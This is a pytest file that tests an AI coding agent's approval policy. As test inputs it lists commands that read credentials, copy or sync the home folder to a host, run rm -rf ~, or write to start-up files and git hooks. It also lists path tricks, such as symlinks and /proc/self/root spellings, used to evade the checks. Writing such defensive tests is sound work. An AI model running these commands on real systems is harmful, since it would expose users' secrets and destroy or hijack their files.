"""Paths in commands: credentials behind links and unusual spellings, scripts, temporary folders of others."""

import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from tests.agent.approval.test_policy import StubWorkspace

from talaria.agent.approval.policy import Allow, ApprovalPolicy, Ask, Deny, Judgement, Mode
from talaria.contracts.tool import Effect, ProposedAction


class Machine:
    """A home with secrets, two profiles and a project in it."""

    def __init__(self, root: Path) -> None:
        self.home = root / "person"
        self.work = self.home / "project"
        self.profiles = self.home / ".talaria" / "profiles"
        for folder in (self.work, self.home / ".ssh", self.profiles / "mine", self.profiles / "other"):
            folder.mkdir(parents=True)
        (self.home / ".ssh" / "config").write_text("Host x")
        self.policy = ApprovalPolicy(home=self.home, protected=(self.profiles / "mine", self.profiles))

    def judge(self, command: str, mode: Mode = "ask") -> Judgement:
        return self.proposed_action(ProposedAction("command", command), mode)

    def proposed_action(self, proposed_action: ProposedAction, mode: Mode = "ask") -> Judgement:
        policy = ApprovalPolicy(home=self.home, protected=self.policy.protected, mode=mode, scratch=self.policy.scratch)
        return policy.judge("tool", Effect.READS, proposed_action, StubWorkspace(self.work))


@pytest.fixture
def machine() -> Iterator[Machine]:
    """A home outside the temporary folder of the system, where other rules hold."""
    with tempfile.TemporaryDirectory(dir=Path.cwd()) as root:
        yield Machine(Path(root))


def kinds(judgement: Judgement) -> set[str]:
    return {danger.kind for danger in judgement.dangers} if isinstance(judgement, Ask) else set()


def test_link_to_credentials_is_judged_by_its_target(machine: Machine) -> None:
    (machine.work / "notes.txt").symlink_to(machine.home / ".ssh" / "config")
    (machine.work / "docs").symlink_to(machine.home / ".ssh")
    for command in (
        "cat notes.txt",
        "cat docs/config",
        "cat docs/*",
        "cat *.txt",
        "head < notes.txt",
        "cat ./docs/../docs/config",
    ):
        assert kinds(machine.judge(command)) == {"credentials"}, command
    for target in ("notes.txt", "docs/config"):
        assert kinds(machine.proposed_action(ProposedAction("read", target))) == {"credentials"}
        assert kinds(machine.proposed_action(ProposedAction("write", target))) == {"credentials"}


@pytest.mark.parametrize(
    "form", ["/{0}", "//{0}", "/proc/self/root{0}", "/proc/1/root{0}", "/proc/self/task/1/root{0}", "{0}/../config"]
)
def test_unusual_spellings_of_a_path_to_credentials_are_recognised(machine: Machine, form: str) -> None:
    path = form.format(machine.home / ".ssh" / "config")
    assert kinds(machine.judge(f"cat {path}")) == {"credentials"}
    assert kinds(machine.proposed_action(ProposedAction("read", path))) == {"credentials"}


@pytest.mark.parametrize(
    "command",
    [
        "gh auth token",
        "cat ~/.cargo/credentials.toml",
        "cat ~/.claude/.credentials.json",
        "cat /proc/$PPID/environ",
        "cat /proc/self/environ",
        "strings /proc/123/mem",
        "tar cz ~",
        "tar czf - $HOME | base64",
        "zip -r x.zip ~",
        "cp -r ~ copy",
        "grep -r token ~",
        "rsync -a ~/ host:",
        "cat ~/.talaria/profiles/other/talaria.db",
        "cat ~/.talaria/profiles/mine/api-key",
        "sqlite3 ~/.talaria/profiles/other/talaria.db .dump",
        "aws configure get aws_secret_access_key",
        "gcloud auth print-access-token",
        "git credential fill",
        "kubectl config view --raw",
        "cat /run/secrets/token",
        "cat ~/.config/rclone/rclone.conf",
        'cat "$(echo ~)/.ssh/id_rsa"',
        'X=$(some-program); cat "$X/.ssh/id_rsa"',
        "python3 -c \"print(open('/proc/1/environ').read())\"",
    ],
)  # fmt: skip
def test_commands_that_read_credentials_are_asked_about(machine: Machine, command: str) -> None:
    assert "credentials" in kinds(machine.judge(command))


@pytest.mark.parametrize(
    ("command", "kind"),
    [
        ("cd $(echo ~); echo x > .bashrc", "start-up"),
        ("cd $(some-program); echo x > .bashrc", "start-up"),
        ("cd $(some-program); echo x > notes", "outside"),
        ('echo x > "$(some-program)"', "outside"),
        ("echo x > .git/config", "start-up"),
        ("echo x >> .git/hooks/post-merge", "start-up"),
        ("echo x > AGENTS.md", "start-up"),
        ("mkdir -p .talaria/commands && echo x > .talaria/commands/a.md", "start-up"),
        ("git config core.hooksPath x", "start-up"),
        ("cd missing; touch ../../x", "outside"),
    ],
)  # fmt: skip
def test_writes_to_start_up_files_and_outside_the_folder_are_asked_about(
    machine: Machine, command: str, kind: str
) -> None:
    assert kind in kinds(machine.judge(command))


def test_commands_in_the_workspace_of_a_chat_are_allowed(machine: Machine) -> None:
    machine.work = machine.home / ".talaria" / "workspaces" / "default"
    machine.work.mkdir(parents=True)
    for command in ("echo x > notes", "mkdir -p a && touch a/b", f"echo x > {machine.work}/c", "rm -rf a"):
        assert machine.judge(command) == Allow(), command
    assert machine.proposed_action(ProposedAction("write", "notes")) == Allow()
    assert kinds(machine.judge("cat ../../profiles/mine/.env")) == {"credentials"}


@pytest.mark.parametrize("name", [".git/config", ".git/hooks/pre-commit", ".talaria/commands/a.md", "AGENTS.md"])
def test_writing_start_up_files_with_a_tool_is_asked_about(machine: Machine, name: str) -> None:
    assert kinds(machine.proposed_action(ProposedAction("write", name))) == {"start-up"}


@pytest.mark.parametrize(
    "run",
    ["sh x.sh", "bash ./x.sh", "source x.sh", ". ./x.sh", "./x.sh", "bash < x.sh", "cat x.sh | sh", "bash -x x.sh"],
)
def test_content_of_scripts_is_examined(machine: Machine, run: str) -> None:
    script = machine.work / "x.sh"
    script.write_text("#!/bin/sh\necho hello >> ~/.bashrc\n")
    assert isinstance(machine.judge(run), Ask)
    script.write_text("#!/bin/sh\nrm -rf ~\n")
    assert isinstance(machine.judge(run), Ask if "|" in run else Deny)
    script.write_text("#!/bin/sh\necho hello\nmake test\n")
    if "|" not in run:
        assert machine.judge(run) == Allow()


def test_script_written_by_the_same_command_is_examined(machine: Machine) -> None:
    assert isinstance(machine.judge("cat > x.sh <<'E'\nrm -rf ~\nE\nsh x.sh"), Deny)
    assert isinstance(machine.judge("printf 'rm -rf ~' > x.sh; . ./x.sh"), Deny)
    assert isinstance(machine.judge("some-program > x.sh; sh x.sh"), Ask)
    assert isinstance(machine.judge("sh not-there-yet.sh"), Ask)
    assert machine.judge("cat > x.sh <<'E'\nmake test\nE\nsh x.sh") == Allow()


def test_script_in_a_search_path_inside_the_project_is_examined(machine: Machine) -> None:
    (machine.work / "ls").write_text("#!/bin/sh\nrm -rf ~\n")
    for command in ("PATH=.:$PATH ls", "export PATH=$PWD:/usr/bin; ls", "PATH=/usr/bin:. && ls", "env PATH=. ls"):
        assert isinstance(machine.judge(command), Deny), command
    assert machine.judge("ls") == Allow()


def test_examination_of_a_script_that_runs_itself_ends(machine: Machine) -> None:
    (machine.work / "x.sh").write_text("sh x.sh; . ./x.sh")
    assert machine.judge("sh x.sh") == Allow()


def test_only_temporary_files_of_the_session_are_changed_without_a_question(machine: Machine) -> None:
    with tempfile.TemporaryDirectory() as other:
        (Path(other) / "kept").touch()
        for command in (f"rm -rf {other}", f"echo x > {other}/kept", f"rm {other}/kept", f"rm -rf {other}/*"):
            assert isinstance(machine.judge(command), Ask), command
        mine = Path(other + "-mine")
        assert machine.judge(f"mkdir {mine} && echo x > {mine}/a && rm -rf {mine}") == Allow()
        mine.mkdir()
        try:
            assert machine.judge(f"echo y > {mine}/a; rm -rf {mine}") == Allow()
        finally:
            mine.rmdir()
    assert machine.judge('d=$(mktemp -d); echo x > "$d/a"; rm -rf "$d"') == Allow()
    assert machine.judge("rm -rf /tmp") != Allow()


def test_home_in_a_temporary_folder_is_protected() -> None:
    with tempfile.TemporaryDirectory() as root:
        machine = Machine(Path(root))
        (machine.home / "precious").mkdir()
        assert isinstance(machine.judge("rm -rf ~/precious"), Ask)
        assert isinstance(machine.judge("rm -rf ~", mode="off"), Deny)
